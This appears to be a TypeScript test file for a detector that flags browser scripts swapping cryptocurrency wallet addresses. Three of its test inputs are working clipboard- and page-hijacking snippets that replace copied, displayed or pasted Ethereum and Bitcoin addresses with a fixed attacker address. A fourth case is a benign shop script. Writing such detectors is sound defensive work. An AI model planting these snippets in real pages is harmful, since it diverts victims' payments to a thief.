import assert from 'node:assert/strict';
import { analyse } from '../flow/analyse.ts';

const cases: Record<string, [string, string[]]> = {
  'copied wallet addresses replaced in the event': [
    `document.addEventListener('copy',function(e){var t=String(getSelection());if(/^0x[a-f0-9]{40}$/i.test(t)){e.clipboardData.setData('text/plain','0x52bF3e1c07d96aE8430f25C19b7A64dE30f81c55');e.preventDefault()}})`,
    ['high wallet-drain'],
  ],
  'shown wallet addresses replaced': [
    `setInterval(function(){document.querySelectorAll('.address').forEach(function(n){if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,42}$/.test(n.textContent))n.textContent='bc1q52bf3e1c07d96ae8430f25c19b7a64de30f81c55'})},500)`,
    ['medium wallet-drain'],
  ],
  'pasted wallet addresses replaced': [
    `document.addEventListener('paste',function(e){var t=e.clipboardData.getData('text');if(/^(0x[a-f0-9]{40}|bc1[a-z0-9]{30,60})$/.test(t)){e.preventDefault();e.target.value=t[0]=='0'?'0x52bF3e1c07d96aE8430f25C19b7A64dE30f81c55':'bc1q52bf3e1c07d96ae8430f25c19b7a64de30f81c55'}})`,
    ['medium wallet-drain'],
  ],
  'a shop that checks an address and shows its own': [
    `function ok(a){return /^0x[a-fA-F0-9]{40}$/.test(a)}document.querySelector('.pay').textContent='0x52bF3e1c07d96aE8430f25C19b7A64dE30f81c55';document.querySelector('.copy').onclick=function(){navigator.clipboard.writeText('0x52bF3e1c07d96aE8430f25C19b7A64dE30f81c55')}`,
    [],
  ],
};

describe('swapped addresses', () => {
  for (const [title, [script, expected]] of Object.entries(cases))
    it(`sees ${title}`, () =>
      assert.deepEqual(
        analyse(script).evidence.map(({ severity, rule }) => `${severity} ${rule}`),
        expected,
      ));
});
